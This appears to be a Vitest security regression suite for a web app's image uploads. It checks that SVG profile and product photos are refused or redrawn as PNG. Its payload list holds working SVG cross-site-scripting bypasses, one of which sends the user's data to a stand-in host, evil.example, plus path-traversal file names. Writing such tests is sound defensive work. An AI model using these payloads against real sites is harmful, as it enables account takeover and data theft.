import fs from 'node:fs';
import path from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { POST as upload } from '@/app/api/user/profile-photo/route';
import { GET as photo } from '@/app/api/profile-photos/[file]/route';
import { POST as productImage } from '@/app/api/admin/products/[id]/image/route';
import { GET as productPhoto } from '@/app/api/product-photos/[file]/route';
import { db } from '@/lib/db';
import { ApiClient, DEMO, registerUser, setUpTemporaryFiles, signIn } from '../support/api-client';

// Finding 1 (critical): an SVG profile photo ran script as the signed-in
// victim; five ways past the old SVG cleaner were found. Now every upload is
// drawn again as a PNG, and the file is served as an image in a sandbox.

const { uploadDir } = setUpTemporaryFiles();
const PNG_SIGNATURE = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
const SVG = (body: string, attributes = '') =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="10" height="10"${attributes}>${body}<rect width="10" height="10" fill="red"/></svg>`;

const PAYLOADS: [string, string][] = [
  ['a script split around an inner one', SVG('<scr<script></script>ipt>fetch("/api/user")</script>')],
  [
    'a plain script element',
    SVG('<script>fetch("/api/user").then(r=>r.text()).then(t=>fetch("https://evil.example/?"+t))</script>'),
  ],
  ['an event handler with a newline before "="', SVG('', ' onload\n="alert(document.domain)"')],
  ['a javascript: link in xlink:href', SVG('<a xlink:href="javascript:alert(1)"><circle r="5"/></a>')],
  [
    'an animation that sets href to javascript:',
    SVG('<a><animate attributeName="href" values="javascript:alert(1)"/><text y="8">x</text></a>'),
  ],
  [
    'an HTML iframe in a foreignObject',
    SVG(
      '<foreignObject width="10" height="10"><iframe xmlns="http://www.w3.org/1999/xhtml" srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"/></foreignObject>',
    ),
  ],
  [
    'a <use> of a data: SVG with a script',
    SVG(
      '<use href="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciPjxzY3JpcHQ+YWxlcnQoMSk8L3NjcmlwdD48L3N2Zz4="/>',
    ),
  ],
  [
    'HTML with an svg root claimed',
    '<svg xmlns="http://www.w3.org/2000/svg"><html><body><script>alert(1)</script></body></html></svg>',
  ],
];

const form = (content: string) => {
  const data = new FormData();
  data.set('photo', new File([content], 'foto.svg', { type: 'image/svg+xml' }));
  return data;
};

describe('uploaded images never carry script (finding 1)', () => {
  let victim: { client: ApiClient; id: number };
  beforeAll(async () => {
    victim = await registerUser();
  });

  it.each(PAYLOADS)('%s: refused, or stored and served as a PNG drawn from it', async (_name, payload) => {
    const response = await victim.client.post(upload, '/api/user/profile-photo', { form: form(payload) });
    expect([200, 422]).toContain(response.status);
    const folder = path.join(uploadDir, 'profile-photos');
    const stored = fs.existsSync(folder) ? fs.readdirSync(folder) : [];
    for (const name of stored) {
      expect(name).toMatch(/\.png$/);
      const bytes = fs.readFileSync(path.join(uploadDir, 'profile-photos', name));
      expect(bytes.subarray(0, 8)).toEqual(PNG_SIGNATURE);
      expect(bytes.toString('latin1')).not.toMatch(/<script|javascript:|onload|<svg|<html/i);
    }
    if (response.status !== 200) return;
    const file = (response.body.profile_photo_url as string).split('/').pop()!;
    const served = await new ApiClient().get(photo, `/api/profile-photos/${file}`, { params: { file } });
    expect(served.headers.get('content-type')).toBe('image/png');
    expect(served.headers.get('x-content-type-options')).toBe('nosniff');
    expect(served.headers.get('content-security-policy')).toBe(
      "default-src 'none'; style-src 'unsafe-inline'; sandbox",
    );
    expect(served.bytes.subarray(0, 8)).toEqual(PNG_SIGNATURE);
  });

  it('serves a photo stored as SVG by an older version only as a PNG drawn from it', async () => {
    const name = 'Zm9vYmFyYmF6cXV4cXV1eA';
    fs.mkdirSync(path.join(uploadDir, 'profile-photos'), { recursive: true });
    fs.writeFileSync(path.join(uploadDir, 'profile-photos', `${name}.svg`), SVG('<script>alert(1)</script>'));
    await db.user.update({ where: { id: victim.id }, data: { profilePhotoPath: `${name}.svg` } });
    const svgUrl = await new ApiClient().get(photo, `/api/profile-photos/${name}.svg`, {
      params: { file: `${name}.svg` },
    });
    expect(svgUrl.status).toBe(404);
    const served = await new ApiClient().get(photo, `/api/profile-photos/${name}.png`, {
      params: { file: `${name}.png` },
    });
    expect(served.status).toBe(200);
    expect(served.headers.get('content-type')).toBe('image/png');
    expect(served.bytes.toString('latin1')).not.toContain('<script');
  });
});

describe('product photos (issue 14) carry no script and nothing of the attacker’s', () => {
  let manager: ApiClient;
  let productId: number;
  beforeAll(async () => {
    const signedIn = await signIn(DEMO.manager);
    manager = signedIn.client;
    manager.bearer = signedIn.tokens.access_token;
    productId = (await db.product.findFirstOrThrow({ where: { archivedAt: null } })).id;
  });
  const productForm = (content: string | Buffer, name: string, type: string) => {
    const data = new FormData();
    data.set('image', new File([typeof content === 'string' ? content : new Uint8Array(content)], name, { type }));
    return data;
  };
  const send = (data: FormData) =>
    manager.post(productImage, `/api/admin/products/${productId}/image`, {
      params: { id: String(productId) },
      form: data,
    });
  const stored = () => {
    const dir = path.join(uploadDir, 'product-photos');
    return fs.existsSync(dir) ? fs.readdirSync(dir) : [];
  };

  it.each(PAYLOADS)('%s, named .jpg: refused, nothing stored', async (_name, payload) => {
    const before = stored();
    const response = await send(productForm(payload, 'foto.jpg', 'image/jpeg'));
    expect(response.status).toBe(422);
    expect(stored()).toEqual(before);
  });

  it('a JPEG header glued to a script is refused; nothing stored', async () => {
    const before = stored();
    const fake = Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), Buffer.from('<script>alert(1)</script>')]);
    expect((await send(productForm(fake, 'foto.jpg', 'image/jpeg'))).status).toBe(422);
    expect(stored()).toEqual(before);
  });

  it('a body over 8 MB is refused before it is read', async () => {
    const huge = Buffer.alloc(8 * 1024 * 1024 + 128 * 1024, 0xff);
    const response = await send(productForm(huge, 'foto.jpg', 'image/jpeg'));
    expect(response.status).toBe(413);
  });

  it('the photo route serves only names we gave, never a path', async () => {
    for (const name of [
      '../../data.db',
      '..%2F..%2Fdata.db',
      'abc.webp',
      `${'a'.repeat(22)}-960.svg`,
      `${'a'.repeat(22)}-960.webp`,
    ]) {
      const response = await productPhoto(new Request('http://localhost/api/product-photos/x'), {
        params: Promise.resolve({ file: name }),
      });
      expect(response.status).toBe(404);
    }
  });
});
